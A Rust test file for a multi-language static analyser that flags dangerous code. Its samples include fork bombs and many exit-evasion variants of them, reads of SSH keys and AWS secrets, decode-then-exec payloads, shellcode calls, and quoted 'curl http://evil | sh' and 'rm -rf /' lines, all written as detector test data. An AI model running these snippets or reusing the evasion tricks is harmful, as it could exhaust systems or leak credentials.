//! Per-language true positives: one program per language with a line per category, each
//! finding asserted by rule id, severity and line; and the point of parsing: the same calls in
//! comments and string literals produce nothing.

use std::sync::OnceLock;

use warden_analysis::Analyzer;
use warden_core::{Analysis, ThreatLevel};

use ThreatLevel::{Critical, High, Low, Medium};

fn analyzer() -> &'static Analyzer {
    static ANALYZER: OnceLock<Analyzer> = OnceLock::new();
    ANALYZER.get_or_init(|| Analyzer::builtin().expect("the embedded rule files load"))
}

/// Asserts that analysing `code` finds each (rule, severity, line), and that the threat level
/// is the highest severity.
fn assert_finds(language: &str, code: &str, expected: &[(&str, ThreatLevel, u32)]) -> Analysis {
    let analysis = analyzer().analyze(language, code.as_bytes());
    assert_eq!(analysis.parse_error, None, "{language}: {analysis:#?}");
    for &(rule, severity, line) in expected {
        assert!(
            analysis
                .findings
                .iter()
                .any(|f| f.rule == rule && f.severity == severity && f.line == line),
            "{language}: no {rule} ({severity}) on line {line}; found:\n{}",
            describe(&analysis)
        );
    }
    let highest = expected
        .iter()
        .map(|e| e.1)
        .max()
        .unwrap_or(ThreatLevel::None);
    assert_eq!(analysis.threat_level, highest, "{}", describe(&analysis));
    analysis
}

/// Asserts that `code` (dangerous calls in comments and strings only) has no finding.
fn assert_quiet(language: &str, code: &str) {
    let analysis = analyzer().analyze(language, code.as_bytes());
    assert!(
        analysis.findings.is_empty() && analysis.threat_level == ThreatLevel::None,
        "{language}: comments or strings produced findings:\n{}",
        describe(&analysis)
    );
}

fn describe(analysis: &Analysis) -> String {
    analysis
        .findings
        .iter()
        .map(|f| {
            format!(
                "  line {} {} {} {:?}",
                f.line, f.severity, f.rule, f.excerpt
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn python() {
    let code = r#"import subprocess
import socket
os.system("ls")
open("/etc/hosts").read()
exec(compile(src, "x", "exec"))
import ctypes
home = os.environ["HOME"]
key = open("/root/.ssh/id_rsa").read()
exec(base64.b64decode(payload))
subprocess.check_call([sys.executable, "-m", "pip", "install", "requests"])
while True:
    os.fork()
os.setuid(0)
"#;
    let analysis = assert_finds(
        "python",
        code,
        &[
            ("python.subprocess", Medium, 1),
            ("python.network", Medium, 2),
            ("python.os_system", Medium, 3),
            ("python.file_outside_workdir", Medium, 4),
            ("python.eval", High, 5),
            ("python.native_code", High, 6),
            ("python.environment", Low, 7),
            ("python.credentials", High, 8),
            ("python.decode_then_exec", High, 9),
            ("python.package_install", Medium, 10),
            ("python.spawn_in_endless_loop", Critical, 12),
            ("python.sandbox_escape", High, 13),
        ],
    );
    let excerpt = analysis
        .findings
        .iter()
        .find(|f| f.rule == "python.os_system");
    assert_eq!(
        excerpt.map(|f| f.excerpt.as_str()),
        Some(r#"os.system("ls")"#)
    );
    assert_quiet(
        "python",
        "# os.system(\"rm -rf /\")\ns = 'os.system(\"rm -rf /\")'\n\"\"\"exec(base64.b64decode(x))\nimport socket\"\"\"\nprint(s)\n",
    );
}

#[test]
fn python_loops_that_end_are_not_fork_bombs() {
    let code = "import os\nfor i in range(3):\n    os.fork()\nwhile n > 0:\n    os.fork()\n";
    let analysis = analyzer().analyze("python", code.as_bytes());
    assert_eq!(analysis.threat_level, Medium, "{}", describe(&analysis));
    assert!(analysis.findings.iter().all(|f| f.rule == "python.fork"));
}

/// A loop that holds its own exit (a `break` of it, a `return`) ends: it is not endless, in
/// any language (hunt "benign": Go's read loop and `select` loop, Rust's `loop { if … { break; } }`
/// and a C++ `while (true)` that `break`s were refused as fork bombs).
#[test]
fn loops_that_hold_their_own_exit_are_not_fork_bombs() {
    let loops = [
        ("go", "package main\nfunc main() {\n\tfor {\n\t\tif done() {\n\t\t\tbreak\n\t\t}\n\t\tgo work()\n\t}\n}\n"),
        ("go", "package main\nfunc main() {\n\tfor {\n\t\tselect {\n\t\tcase <-tick:\n\t\t\tgo work()\n\t\tcase <-done:\n\t\t\treturn\n\t\t}\n\t}\n}\n"),
        ("rust", "fn main() { let mut i = 0; loop { if i == 4 { break; } std::thread::spawn(|| {}); i += 1; } }"),
        ("rust", "fn main() -> std::io::Result<()> { loop { let n = read()?; std::thread::spawn(move || n); } }"),
        ("cpp", "#include <thread>\nint main() { while (true) { std::thread t(f); t.join(); if (done()) break; } }"),
        ("c", "#include <pthread.h>\nint main(void) { for (;;) { if (done()) return 0; pthread_create(&t, 0, f, 0); pthread_join(t, 0); } }"),
        ("python", "import threading\nwhile True:\n    if done():\n        break\n    threading.Thread(target=f).start()\n"),
        ("javascript", "const { Worker } = require('worker_threads');\nwhile (true) { if (done()) break; new Worker('./w.js'); }"),
        ("java", "class A { void f() { while (true) { new Thread(r).start(); if (done()) return; } } }"),
        ("ruby", "loop do\n  break if done\n  Thread.new { work }.join\nend\n"),
        ("php", "<?php while (true) { exec('ls', $out); if (done()) { break; } }"),
        ("r", "repeat { system('ls'); if (done()) break }"),
        ("bash", "while true; do sleep 1 & [ -e stop ] && break; done"),
    ];
    for (language, code) in loops {
        let analysis = analyzer().analyze(language, code.as_bytes());
        assert!(
            analysis.threat_level < Critical,
            "{language}: a loop that ends is graded as a fork bomb:\n{code}\n{}",
            describe(&analysis)
        );
    }
}

/// An exit that is not the loop's own does not end it: a `break` of an inner loop, `switch`
/// or `select`, a `return` or `break` inside a closure, a subshell or a background job, and
/// any exit of a loop that forks (the copy may be the one that exits).
#[test]
fn exits_that_are_not_the_loops_own_keep_a_fork_bomb() {
    let bombs = [
        ("go", "package main\nfunc main() { for { go main(); func() { return }() } }"),
        ("go", "package main\nfunc main() { for { go main(); for { break } } }"),
        ("go", "package main\nfunc main() { for { go main(); select { default: break } } }"),
        ("go", "package main\nfunc main() { for { go main(); switch { default: break } } }"),
        ("rust", "fn main() { loop { std::thread::spawn(|| {}); let f = || { return; }; } }"),
        ("rust", "fn main() { loop { std::thread::spawn(|| {}); for _ in 0..3 { break; } } }"),
        ("rust", "fn main() { loop { std::thread::spawn(|| {}); 'b: { break 'b; } } }"),
        ("rust", "fn main() { loop { if unsafe { libc::fork() } == 0 { break; } } }"),
        ("cpp", "#include <thread>\nint main() { while (true) { std::thread(f).detach(); auto g = [] { return; }; } }"),
        ("cpp", "#include <thread>\nint main() { while (true) { std::thread(f).detach(); for (int i : v) break; } }"),
        ("c", "#include <unistd.h>\nint main(void) { while (1) { pid_t p = fork(); if (p == 0) return 0; } }"),
        ("c", "#include <stdlib.h>\nint main(void) { for (;;) { system(\"x &\"); switch (1) { case 1: break; } } }"),
        ("python", "import os\nwhile True:\n    os.fork()\n    for i in range(3):\n        break\n    def f():\n        return 1\n"),
        ("python", "import os\nwhile True:\n    if os.fork() == 0:\n        break\n"),
        ("javascript", "const cp = require('child_process');\nwhile (true) { cp.fork(__filename); [1].forEach(() => { return; }); switch (x) { case 1: break; } }"),
        ("java", "class A { void f() { while (true) { new Thread(() -> { return; }).start(); for (;;) break; } } }"),
        ("java", "class A { void f() { while (true) { new Thread(r).start(); x: { break x; } } } }"),
        ("javascript", "const cp = require('child_process');\nwhile (true) { cp.fork(__filename); x: { break x; } }"),
        ("ruby", "loop do\n  Thread.new { sleep }\n  [1].each { |x| break }\nend\n"),
        ("ruby", "while true do\n  break if fork\nend\n"),
        ("php", "<?php while (true) { if (pcntl_fork() == 0) { exit(0); } }"),
        ("php", "<?php while (true) { exec('x &'); $f = function() { return 1; }; foreach ($a as $x) { break; } }"),
        ("r", "repeat { system('Rscript x.R &'); f <- function() return(1); for (i in 1:2) break }"),
        ("bash", "while true; do sleep 30 & (break); echo | break; x=$(exit 1); done"),
        ("bash", "while :; do sleep 30 & break & done"),
        ("bash", "while :; do sleep 30 & f() { exit; }; for x in 1; do break; done; done"),
        ("bash", "break() { :; }\nwhile :; do sleep 30 & break; done"),
        ("bash", "function exit { :; }\nwhile :; do sleep 30 & exit; done"),
        ("bash", "shopt -s expand_aliases\nalias break=:\nwhile :; do sleep 30 & break; done"),
        ("bash", "enable -n break\nwhile :; do sleep 30 & break; done"),
        ("c", "#include <unistd.h>\n#define break\nint main(void) { for (;;) { system(\"x &\"); break; } }"),
        ("cpp", "#include <thread>\n#define return\nint main() { while (true) { std::thread(f).detach(); return; } }"),
        ("r", "return <- identity\nrepeat { system('Rscript x.R &'); return(1) }"),
    ];
    check_bombs(&bombs);
}

/// Exits a regression hunt found that do not end their loop: cancelled by a `finally` or
/// `ensure`, taken by a loop that is not a statement (Ruby's `begin … end while`, Python's
/// loop `else`), hidden by the preprocessor or an alias, data rather than code (R's
/// `quote(break)`), or taken by a copy of the program (Ruby's `IO.popen('-')`).
#[test]
fn exits_that_do_not_end_the_loop_keep_a_fork_bomb() {
    let bombs = [
        ("python", "import threading\nwhile True:\n    threading.Thread(target=print).start()\n    try:\n        break\n    finally:\n        continue\n"),
        ("python", "import os\ndef f():\n    while True:\n        os.system('x &')\n        try:\n            return\n        except OSError:\n            break\n        finally:\n            continue\n"),
        ("javascript", "const cp = require('child_process');\nwhile (true) { cp.fork(__filename); try { break; } finally { continue; } }"),
        ("javascript", "const cp = require('child_process');\nwhile (true) { cp.fork(__filename); try { f(); } catch (e) { break; } finally { continue; } }"),
        ("java", "class A { void f() { while (true) { new Thread(r).start(); try { break; } finally { continue; } } } }"),
        ("php", "<?php while (true) { exec('x &'); try { break; } finally { continue; } }"),
        ("ruby", "loop do\n  Thread.new { sleep 100 }\n  begin\n    break\n  ensure\n    next\n  end\nend\n"),
        ("ruby", "while true do\n  Process.spawn('ruby', $0)\n  begin\n    break\n  ensure\n    next\n  end\nend\n"),
        ("ruby", "loop do\n  Thread.new { sleep 100 }\n  begin\n    break\n  end while false\nend\n"),
        ("ruby", "loop do\n  Thread.new { sleep 100 }\n  break until true\nend\n"),
        ("bash", "shopt -s expand_aliases\nBASH_ALIASES[break]=:\nwhile true; do sleep 100 & break; done"),
        ("bash", "shopt -s expand_aliases\ndeclare -A BASH_ALIASES=([exit]=true)\nwhile true; do sleep 100 & exit 0; done"),
        ("bash", "set -o posix\nprintf -v 'BASH_ALIASES[break]' %s :\nwhile true; do sleep 100 & break; done"),
        ("c", "#include <pthread.h>\n#define until_done for (int once = 1; once; once = 0)\nint main(void) { pthread_t t; for (;;) { pthread_create(&t, 0, f, 0); until_done { break; } } }"),
        ("c", "#include <pthread.h>\n#define ONCE switch (0) default:\nint main(void) { pthread_t t; for (;;) { pthread_create(&t, 0, f, 0); ONCE { break; } } }"),
        ("c", "#include <pthread.h>\nint main(void) { pthread_t t; while (1) { pthread_create(&t, 0, f, 0);\n#if 0\n    break;\n#endif\n  } }"),
        ("cpp", "#include <thread>\nint main() { while (true) { std::thread(f).detach();\n#ifdef NEVER\n    return 0;\n#else\n    g();\n#endif\n  } }"),
        ("cpp", "#include <thread>\n#define TIMES(n) for (int i = 0; i < n; i++)\nint main() { while (true) { std::thread(f).detach(); TIMES(1) { break; } } }"),
        ("r", "repeat {\n  system('sleep 100', wait = FALSE)\n  stop_expr <- quote(break)\n}\n"),
        ("r", "repeat { system('sleep 100', wait = FALSE); f <- ~ break }"),
        ("r", "while (TRUE) { parallel::mcparallel(Sys.sleep(100)); invisible(expression(break)) }"),
        ("r", "repeat { system('sleep 100', wait = FALSE); try(local(break), silent = TRUE) }"),
        ("r", "repeat { system('sleep 100', wait = FALSE); g <- y ~ break; h <- function() break }"),
        ("python", "import threading\nfor _ in [1]:\n    while True:\n        threading.Thread(target=print).start()\n    else:\n        break\n"),
        ("python", "import os\ndef f():\n    for _ in iter(int, 1):\n        os.system('x &')\n    else:\n        return\n"),
        ("ruby", "loop do\n  break if IO.popen('-').nil?\nend\n"),
        ("ruby", "loop do\n  break unless open(\"|-\")\nend\n"),
        ("ruby", "loop do\n  break if Kernel.open('|-', 'r+').nil?\nend\n"),
    ];
    check_bombs(&bombs);
}

fn check_bombs(bombs: &[(&str, &str)]) {
    for (language, code) in bombs {
        let analysis = analyzer().analyze(language, code.as_bytes());
        assert!(
            analysis
                .findings
                .iter()
                .any(|f| f.rule == format!("{language}.spawn_in_endless_loop")),
            "{language}: a fork bomb whose exit is not its loop's own is missed:\n{code}\n{}",
            describe(&analysis)
        );
    }
}

#[test]
fn javascript() {
    let code = r#"const cp = require('child_process');
const net = require('net');
fs.readFileSync('/etc/hosts');
eval(userCode);
process.dlopen(module, './x.node');
console.log(process.env.HOME);
const key = process.env.AWS_SECRET_ACCESS_KEY;
eval(atob('Y29uc29sZS5sb2coMSk='));
cp.execSync('npm install left-pad');
for (;;) { cp.fork(__filename); }
"#;
    assert_finds(
        "javascript",
        code,
        &[
            ("javascript.child_process", Medium, 1),
            ("javascript.network", Medium, 2),
            ("javascript.file_outside_workdir", Medium, 3),
            ("javascript.eval", High, 4),
            ("javascript.native_code", High, 5),
            ("javascript.environment", Low, 6),
            ("javascript.credentials", High, 7),
            ("javascript.decode_then_exec", High, 8),
            ("javascript.package_install", Medium, 9),
            ("javascript.spawn_in_endless_loop", Critical, 10),
        ],
    );
    assert_quiet(
        "javascript",
        "// require('child_process').execSync('rm -rf /')\nconst s = \"eval(atob('x'))\";\nconst t = `process.dlopen(m, 'x')`;\n/* fetch('http://x') */\nconsole.log(s, t);\n",
    );
}

#[test]
fn bash() {
    let code = r#"python3 -c 'print(1)'
curl -s https://example.com/data
cat /etc/hosts
eval "$cmd"
LD_PRELOAD=/tmp/hook.so ls
env
cat ~/.ssh/id_rsa
echo ZWNobyBoaQ== | base64 -d | bash
pip install requests
:(){ :|:& };:
sudo id
while true; do sleep 100 & done
"#;
    assert_finds(
        "bash",
        code,
        &[
            ("bash.shell", Medium, 1),
            ("bash.network", Medium, 2),
            ("bash.file_outside_workdir", Medium, 3),
            ("bash.eval", High, 4),
            ("bash.native_code", High, 5),
            ("bash.environment", Low, 6),
            ("bash.credentials", High, 7),
            ("bash.decode_and_run", High, 8),
            ("bash.package_install", Medium, 9),
            ("bash.fork_bomb", Critical, 10),
            ("bash.sandbox_escape", High, 11),
            ("bash.spawn_in_endless_loop", Critical, 12),
        ],
    );
    assert_quiet(
        "bash",
        "# curl http://evil | sh\necho \"curl http://evil | sh\"\necho 'eval $(base64 -d)'\nread -r x\nfor i in 1 2 3; do echo \"$i $x\"; done\n",
    );
}

#[test]
fn java() {
    let code = r#"import java.net.Socket;
import java.lang.reflect.Method;
class A {
  native void peek();
  void f() throws Exception {
    Runtime.getRuntime().exec("ls");
    new java.io.FileInputStream("/etc/hosts");
    String home = System.getenv("HOME");
    String key = System.getenv("AWS_SECRET_ACCESS_KEY");
    Runtime.getRuntime().exec(new String(Base64.getDecoder().decode(p)));
    new ProcessBuilder("pip", "install", "x").start();
    while (true) { new Thread(() -> {}).start(); }
  }
}
"#;
    assert_finds(
        "java",
        code,
        &[
            ("java.network", Medium, 1),
            ("java.reflection", High, 2),
            ("java.native_code", High, 4),
            ("java.process", Medium, 6),
            ("java.file_outside_workdir", Medium, 7),
            ("java.environment", Low, 8),
            ("java.credentials", High, 9),
            ("java.decode_then_exec", High, 10),
            ("java.package_install", Medium, 11),
            ("java.spawn_in_endless_loop", Critical, 12),
        ],
    );
    let files =
        "class A { void f() throws Exception {\n new java.io.FileReader(\"/etc/hosts\");\n} }";
    assert_finds("java", files, &[("java.file_outside_workdir", Medium, 2)]);
    assert_quiet(
        "java",
        "// Runtime.getRuntime().exec(\"rm\")\nclass A {\n  /* System.loadLibrary(\"x\") */\n  String s = \"new ProcessBuilder(\\\"sh\\\")\";\n}\n",
    );
}

#[test]
fn go() {
    let code = r#"package main

import (
	"encoding/base64"
	"net/http"
	"os"
	"os/exec"
	"reflect"
	"unsafe"
)

func main() {
	os.ReadFile("/etc/hosts")
	home := os.Getenv("HOME")
	key := os.Getenv("AWS_SECRET_ACCESS_KEY")
	reflect.ValueOf(x).MethodByName("Run").Call(nil)
	b, _ := base64.StdEncoding.DecodeString(payload)
	exec.Command("sh", "-c", string(b)).Run()
	exec.Command("go", "install", "example.com/tool@latest").Run()
	for {
		go main()
	}
}
"#;
    assert_finds(
        "go",
        code,
        &[
            ("go.network", Medium, 5),
            ("go.process", Medium, 7),
            ("go.native_code", High, 9),
            ("go.file_outside_workdir", Medium, 13),
            ("go.environment", Low, 14),
            ("go.credentials", High, 15),
            ("go.reflection", High, 16),
            ("go.decode_then_exec", High, 18),
            ("go.package_install", Medium, 19),
            ("go.spawn_in_endless_loop", Critical, 21),
        ],
    );
    assert_quiet(
        "go",
        "package main\n\nimport \"fmt\"\n\n// exec.Command(\"rm\", \"-rf\", \"/\")\nfunc main() {\n\tfmt.Println(\"os/exec\", `syscall.Exec`)\n}\n",
    );
}

#[test]
fn rust() {
    let code = r#"use std::process::Command;
use std::net::TcpStream;
fn main() {
    std::fs::read_to_string("/etc/hosts").ok();
    let p = unsafe { libc::mmap(0 as _, 4096, libc::PROT_READ | libc::PROT_EXEC, 0, -1, 0) };
    let x = unsafe { *p };
    let home = std::env::var("HOME");
    let key = std::env::var("AWS_SECRET_ACCESS_KEY");
    Command::new("cargo").arg("install").arg("ripgrep").status().ok();
    loop { std::thread::spawn(|| {}); }
}
fn hidden() {
    let cmd = String::from_utf8(vec![105, 100]).unwrap();
    Command::new("sh").arg("-c").arg(cmd).status().ok();
}
"#;
    assert_finds(
        "rust",
        code,
        &[
            ("rust.network", Medium, 2),
            ("rust.file_outside_workdir", Medium, 4),
            ("rust.executable_memory", High, 5),
            ("rust.unsafe", High, 6),
            ("rust.environment", Low, 7),
            ("rust.credentials", High, 8),
            ("rust.process", Medium, 9),
            ("rust.package_install", Medium, 9),
            ("rust.spawn_in_endless_loop", Critical, 10),
            ("rust.decode_then_exec", High, 14),
        ],
    );
    assert_quiet(
        "rust",
        "// unsafe { libc::fork() }\n/// Command::new(\"sh\")\nfn main() {\n    let s = \"std::process::Command::new(\\\"sh\\\")\";\n    println!(\"{s}\");\n}\n",
    );
}

#[test]
fn c() {
    let code = r#"#include <stdlib.h>
#include <sys/socket.h>
int main(void) {
    system("ls");
    fopen("/etc/hosts", "r");
    mmap(0, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, -1, 0);
    void *h = dlopen("libevil.so", 2);
    char *home = getenv("HOME");
    char *key = getenv("AWS_SECRET_ACCESS_KEY");
    ((void (*)(void))shellcode)();
    system("pip install requests");
    for (;;) fork();
    ptrace(0, 0, 0, 0);
}
"#;
    assert_finds(
        "c",
        code,
        &[
            ("c.network", Medium, 2),
            ("c.process", Medium, 4),
            ("c.file_outside_workdir", Medium, 5),
            ("c.executable_memory", High, 6),
            ("c.native_code", High, 7),
            ("c.environment", Low, 8),
            ("c.credentials", High, 9),
            ("c.shellcode", High, 10),
            ("c.package_install", Medium, 11),
            ("c.spawn_in_endless_loop", Critical, 12),
            ("c.sandbox_escape", High, 13),
        ],
    );
    assert_quiet(
        "c",
        "#include <stdio.h>\n/* system(\"rm -rf /\"); */\nint main(void) {\n    // fork(); dlopen(\"x\", 0);\n    puts(\"system(\\\"/bin/sh\\\")\");\n    return 0;\n}\n",
    );
}

#[test]
fn cpp() {
    let code = r#"#include <cstdlib>
#include <netdb.h>
int main() {
    std::system("ls");
    std::ifstream in("/etc/hosts");
    mprotect(p, 4096, PROT_READ | PROT_EXEC);
    asm volatile("nop");
    auto home = std::getenv("HOME");
    auto key = std::getenv("AWS_SECRET_ACCESS_KEY");
    reinterpret_cast<void (*)()>(payload)();
    std::system("npm install left-pad");
    while (true) { std::thread(work).detach(); }
}
"#;
    assert_finds(
        "cpp",
        code,
        &[
            ("cpp.network", Medium, 2),
            ("cpp.process", Medium, 4),
            ("cpp.file_outside_workdir", Medium, 5),
            ("cpp.executable_memory", High, 6),
            ("cpp.native_code", High, 7),
            ("cpp.environment", Low, 8),
            ("cpp.credentials", High, 9),
            ("cpp.shellcode", High, 10),
            ("cpp.package_install", Medium, 11),
            ("cpp.spawn_in_endless_loop", Critical, 12),
        ],
    );
    assert_quiet(
        "cpp",
        "#include <iostream>\n// std::system(\"rm -rf /\");\nint main() {\n    std::cout << \"fork(); execl(\\\"/bin/sh\\\")\" << '\\n';\n}\n",
    );
}

#[test]
fn ruby() {
    let code = r#"require 'socket'
system('ls')
File.read('/etc/hosts')
eval(code)
require 'fiddle'
home = ENV['HOME']
key = ENV['AWS_SECRET_ACCESS_KEY']
eval(Base64.decode64(payload))
Gem.install('rails')
loop { fork }
"#;
    assert_finds(
        "ruby",
        code,
        &[
            ("ruby.network", Medium, 1),
            ("ruby.process", Medium, 2),
            ("ruby.file_outside_workdir", Medium, 3),
            ("ruby.eval", High, 4),
            ("ruby.native_code", High, 5),
            ("ruby.environment", Low, 6),
            ("ruby.credentials", High, 7),
            ("ruby.decode_then_exec", High, 8),
            ("ruby.package_install", Medium, 9),
            ("ruby.spawn_in_endless_loop", Critical, 10),
        ],
    );
    assert_quiet(
        "ruby",
        "# system('rm -rf /')\ns = 'exec(\"/bin/sh\")'\nputs \"eval(Base64.decode64(x)) #{s.size}\"\n",
    );
}

#[test]
fn php() {
    let code = r#"<?php
system('ls');
$fp = fsockopen('example.com', 80);
echo file_get_contents('/etc/hosts');
eval($code);
$ffi = FFI::cdef('int system(const char *c);');
$home = getenv('HOME');
$key = getenv('AWS_SECRET_ACCESS_KEY');
eval(base64_decode('ZWNobyAxOw=='));
shell_exec('composer require guzzlehttp/guzzle');
while (true) { pcntl_fork(); }
"#;
    assert_finds(
        "php",
        code,
        &[
            ("php.process", Medium, 2),
            ("php.network", Medium, 3),
            ("php.file_outside_workdir", Medium, 4),
            ("php.eval", High, 5),
            ("php.native_code", High, 6),
            ("php.environment", Low, 7),
            ("php.credentials", High, 8),
            ("php.decode_then_exec", High, 9),
            ("php.package_install", Medium, 10),
            ("php.spawn_in_endless_loop", Critical, 11),
        ],
    );
    assert_quiet(
        "php",
        "<?php\n// system('rm -rf /');\n$s = 'eval(base64_decode($x))';\necho \"shell_exec('id') \" . strlen($s);\n?>\nsystem('this is output text, not code');\n",
    );
}

#[test]
fn r() {
    let code = r#"system("ls")
con <- url("http://example.com")
x <- readLines("/etc/hosts")
eval(parse(text = src))
dyn.load("evil.so")
home <- Sys.getenv("HOME")
key <- Sys.getenv("AWS_SECRET_ACCESS_KEY")
eval(parse(text = rawToChar(base64enc::base64decode(s))))
install.packages("ggplot2")
repeat { system("Rscript bomb.R &") }
"#;
    assert_finds(
        "r",
        code,
        &[
            ("r.process", Medium, 1),
            ("r.network", Medium, 2),
            ("r.file_outside_workdir", Medium, 3),
            ("r.eval", High, 4),
            ("r.native_code", High, 5),
            ("r.environment", Low, 6),
            ("r.credentials", High, 7),
            ("r.decode_then_exec", High, 8),
            ("r.package_install", Medium, 9),
            ("r.spawn_in_endless_loop", Critical, 10),
        ],
    );
    assert_quiet(
        "r",
        "# system(\"rm -rf /\")\ns <- 'eval(parse(text = x))'\ncat(s, \"install.packages('x')\", \"\\n\")\n",
    );
}

#[test]
fn findings_are_in_source_order_and_the_level_is_their_maximum() {
    let code = "import os\nwhile True:\n    os.fork()\nprint(os.environ)\n";
    let analysis = analyzer().analyze("python", code.as_bytes());
    let lines: Vec<u32> = analysis.findings.iter().map(|f| f.line).collect();
    let mut sorted = lines.clone();
    sorted.sort_unstable();
    assert_eq!(lines, sorted);
    assert_eq!(analysis.threat_level, Critical);
    assert!(analysis.findings.iter().all(|f| !f.explanation.is_empty()));
}

/// Regression (issue #4, a known false positive): a server that accepts a connection and spawns
/// a handler for it, forever, is bounded by its connections; the same loop without the accept
/// is still a bomb.
#[test]
fn accept_loops_are_servers_not_fork_bombs() {
    let servers = [
        (
            "go",
            "package main\nimport \"net\"\nfunc main() {\n\tln, _ := net.Listen(\"tcp\", \":8080\")\n\tfor {\n\t\tconn, err := ln.Accept()\n\t\tif err != nil {\n\t\t\tcontinue\n\t\t}\n\t\tgo handle(conn)\n\t}\n}\nfunc handle(c net.Conn) { c.Close() }\n",
        ),
        (
            "rust",
            "use std::net::TcpListener;\nfn main() {\n    let l = TcpListener::bind(\"0:8080\").unwrap();\n    loop {\n        let (s, _) = l.accept().unwrap();\n        std::thread::spawn(move || drop(s));\n    }\n}\n",
        ),
        (
            "python",
            "import socket, threading\ns = socket.socket()\ns.bind(('', 8080))\ns.listen()\nwhile True:\n    conn, _ = s.accept()\n    threading.Thread(target=conn.close).start()\n",
        ),
        (
            "c",
            "#include <sys/socket.h>\n#include <unistd.h>\nint main(void) {\n  int s = socket(AF_INET, SOCK_STREAM, 0);\n  for (;;) {\n    int c = accept(s, 0, 0);\n    if (fork() == 0) { close(c); _exit(0); }\n    close(c);\n  }\n}\n",
        ),
        (
            "cpp",
            "#include <sys/socket.h>\n#include <thread>\nint main() {\n  int s = socket(AF_INET, SOCK_STREAM, 0);\n  while (true) {\n    int c = ::accept(s, nullptr, nullptr);\n    std::thread([c] { (void)c; }).detach();\n  }\n}\n",
        ),
        (
            "java",
            "import java.net.*;\npublic class Main {\n  public static void main(String[] a) throws Exception {\n    ServerSocket s = new ServerSocket(8080);\n    while (true) {\n      Socket c = s.accept();\n      new Thread(() -> {}).start();\n    }\n  }\n}\n",
        ),
        (
            "ruby",
            "require 'socket'\nserver = TCPServer.new(8080)\nloop do\n  client = server.accept\n  Thread.new { client.close }\nend\n",
        ),
        (
            "php",
            "<?php\n$s = stream_socket_server('tcp://0.0.0.0:8080');\nwhile (true) {\n  $c = stream_socket_accept($s);\n  if (pcntl_fork() == 0) { exit(0); }\n}\n",
        ),
    ];
    for (language, server) in servers {
        let analysis = analyzer().analyze(language, server.as_bytes());
        assert!(
            analysis.threat_level < ThreatLevel::Critical
                && !analysis
                    .findings
                    .iter()
                    .any(|f| f.rule.ends_with(".spawn_in_endless_loop")),
            "{language}: an accept loop is graded as a fork bomb:\n{}",
            describe(&analysis)
        );
        let bomb = server
            .replace("ln.Accept()", "ln, nil")
            .replace("l.accept().unwrap()", "(1, 2)")
            .replace("s.accept()", "1, 2")
            .replace("accept(s, 0, 0)", "0")
            .replace("::accept(s, nullptr, nullptr)", "0")
            .replace("s.accept()", "null")
            .replace("server.accept", "nil")
            .replace("stream_socket_accept($s)", "0");
        assert_ne!(bomb, server, "{language}: the accept was taken out");
        let analysis = analyzer().analyze(language, bomb.as_bytes());
        assert_eq!(
            analysis.threat_level,
            ThreatLevel::Critical,
            "{language}: without its accept the loop is a bomb:\n{}",
            describe(&analysis)
        );
    }
}
